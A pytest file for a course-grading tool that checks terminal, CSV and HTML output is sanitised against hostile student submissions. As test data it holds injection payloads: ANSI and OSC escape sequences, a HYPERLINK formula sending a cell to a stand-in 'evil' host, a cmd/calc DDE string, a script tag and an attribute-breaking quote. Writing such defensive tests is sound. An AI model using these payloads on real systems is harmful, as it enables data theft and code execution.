"""Sinks encoded for where they go (issue #26, item 5): what a notebook or the LMS
wrote reaches the terminal without its escape sequences, a CSV cell without the
power to run as a formula (and comes back from our own readers as it was), and an
HTML page as text."""

from __future__ import annotations

import csv
import io
from html.parser import HTMLParser
from types import SimpleNamespace

import pytest

from stridegrad.course.checks import CheckResult, Row
from stridegrad.course.feedback import feedback_html
from stridegrad.course.progress import Progress
from stridegrad.course.report import result_text, rows_html

#: What a hostile notebook prints to redraw the instructor's terminal: erase the line,
#: back to its start, a fake summary row; a window title (OSC 0), a link (OSC 8), a
#: colour in its 8-bit form, a terminal reset, text shown backwards (U+202E).
ANSI = ("\x1b[2K\ralice 0/36 crashed\x1b[0m\x1b]0;pwned\x07\x1b]8;;http://evil/\x1b\\link"
        "\x1b]8;;\x1b\\\x9b31mred\x1bc\u202egnp.exe\x7f\x08")
FORMULA = '=HYPERLINK("http://evil/?"&A1,"click")'
SCRIPT = '<script>alert("x")</script>'
QUOTE = 'x" onmouseover="alert(1)'

CONTROL = {chr(c) for c in [*range(0x00, 0x09), *range(0x0b, 0x20), *range(0x7f, 0xa0),
                            0x202e, 0x202d, 0x2066, 0x2067, 0x2068, 0x2069, 0x200e, 0x200f]}


def _clean(text: str) -> bool:
    return not (set(text) & CONTROL)


# ------------------------------------------------------------------------------ terminal

def test_terminal_text_strips_escape_sequences_and_control_characters():
    from stridegrad.course._sinks import terminal_line, terminal_text

    assert terminal_text(ANSI) == "alice 0/36 crashedlinkredgnp.exe"
    # tabs and line feeds are kept by terminal_text; terminal_line shows a line feed
    assert terminal_text("a\tb\nc\r\n") == "a\tb\nc\n"
    assert terminal_line("bob\nalice 36/36 graded") == "bob\\nalice 36/36 graded"
    # letters of any script stay, so do unterminated sequences' visible text
    assert terminal_text("Аlice café 日本") == "Аlice café 日本"
    assert terminal_text("\x1b]0;no end") == "0;no end"
    # a lone surrogate (a file name's byte that is not UTF-8) would stop print()
    assert terminal_text("a\udcff") == "a\ufffd"


def test_the_progress_line_never_writes_a_students_escape_sequences():
    line = Progress(1, 2, 1, 3.0, (ANSI, 2.0), f"{ANSI} 0/36 crashed").line()
    assert _clean(line), repr(line)
    assert "slowest: alice 0/36 crashed" in line


def test_the_text_table_of_a_check_strips_what_the_notebook_returned():
    # what an exception of the student's function said, as the got value of its test
    row = Row("numel_of_a_vector", "numel", "error", 0, 1, expected="5",
              got=f"raised ValueError: {ANSI}", message=f"raised ValueError: {ANSI}",
              call="numel((5,))")
    text = result_text(CheckResult("01_flat_storage", "flat storage", [row]))
    assert _clean(text.replace("\n", "")), repr(text)


# ------------------------------------------------------------------------------ CSV

@pytest.mark.parametrize("value", [
    FORMULA, "=1+2", "+1+2", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1", "\r=1",
    "\n=1", "\0=1", "  =1+2", "-", "+", "@"])
def test_a_cell_that_starts_like_a_formula_is_neutralised(value):
    from stridegrad.course._sinks import csv_cell, csv_value

    assert csv_cell(value) == "'" + value
    assert csv_value(csv_cell(value)) == value


@pytest.mark.parametrize("value", ["alice", "", "numel((2, 3)): expected 6, got 5", "-1",
                                   "-1.5", "+3", "2e-3", ".5", "John Smith", "a=b"])
def test_text_and_numbers_stay_as_they_are(value):
    from stridegrad.course._sinks import csv_cell, csv_value

    assert csv_cell(value) == value and csv_value(value) == value
    for number in (-1, -1.5, 0, 36, True, None):  # the numeric columns
        assert csv_cell(number) == number


def test_the_writer_and_the_readers_round_trip_every_value():
    from stridegrad.course._sinks import DictReader, DictWriter

    values = [FORMULA, "'x", "'=x", "''", "'", "-1", "-1+1", "plain", "@", " -x", "a\nb"]
    out = io.StringIO()
    writer = DictWriter(out, ["student", "=column", "points"])
    writer.writeheader()
    writer.writerows({"student": v, "=column": v, "points": -3} for v in values)
    # a spreadsheet's view: no cell starts like a formula unless it is a number
    for row in csv.reader(io.StringIO(out.getvalue())):
        for cell in row:
            assert cell[:1] not in set("=+-@\t\r\n\0") or cell.lstrip("+-").isdigit(), row
    reader = DictReader(io.StringIO(out.getvalue()))
    rows = list(reader)
    assert reader.fieldnames == ["student", "=column", "points"]
    assert [r["student"] for r in rows] == values == [r["=column"] for r in rows]
    assert {r["points"] for r in rows} == {"-3"}


# ------------------------------------------------------------------------------ HTML

class _Tags(HTMLParser):
    """The start tags of a page and their attributes, as a browser reads them."""

    def __init__(self):
        super().__init__()
        self.tags: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def _tags(page: str) -> list[tuple[str, dict]]:
    parser = _Tags()
    parser.feed(page)
    return parser.tags


def _hostile_grade(status: str = "graded") -> SimpleNamespace:
    rows = [Row(f"t_{SCRIPT}", QUOTE, "fail", 0, 2, expected=SCRIPT, got=QUOTE,
                hint=SCRIPT, message=f"{SCRIPT} {QUOTE}", call=f"{QUOTE}({SCRIPT})"),
            Row("numel_of_a_vector", "numel", "pass", 1, 1)]
    errors = [{"cell": 1, "run": SCRIPT, "first_line": SCRIPT, "error": f"ValueError: {SCRIPT}",
               "line": SCRIPT, "source": f"x = 1\n{SCRIPT}\n"}]
    return SimpleNamespace(student=f"{SCRIPT}{QUOTE}", assignment="01_flat_storage",
                           status=status, message=f"all ran {SCRIPT}", rows=rows,
                           cell_errors=errors, points=1, max_points=3,
                           graded_at=f"2026 {SCRIPT}",
                           redefined=[{"exercise": QUOTE, "graded_in": 3, "check_in": 2,
                                       "earlier_in": 1, "earlier_points": SCRIPT,
                                       "max_points": 2, "points": 0}])


@pytest.mark.parametrize("status", ["graded", "crashed"])
def test_every_value_in_the_feedback_page_is_escaped(status):
    page = feedback_html(_hostile_grade(status), SCRIPT, QUOTE, {"crashed": SCRIPT})
    tags = _tags(page)
    assert "script" not in {tag for tag, _ in tags}, [t for t in tags if t[0] == "script"]
    for tag, attrs in tags:
        assert not any(a.startswith("on") for a in attrs), (tag, attrs)
        # the only links are the page's own anchors: no javascript: URL can be made
        assert tag != "a" or attrs["href"].startswith("#ex-"), attrs
    assert "&lt;script&gt;" in page and "&quot; onmouseover=&quot;" in page
    assert f"(line {SCRIPT})" not in page  # the cell error's line number
    assert "(line &lt;script&gt;" in page


def test_the_rows_table_escapes_every_cell():
    row = Row(SCRIPT, QUOTE, "fail", SCRIPT, QUOTE, expected=SCRIPT, got=QUOTE,
              message=SCRIPT, call=SCRIPT)
    page = rows_html([row])
    assert "script" not in {tag for tag, _ in _tags(page)}
    assert SCRIPT not in page and QUOTE not in page
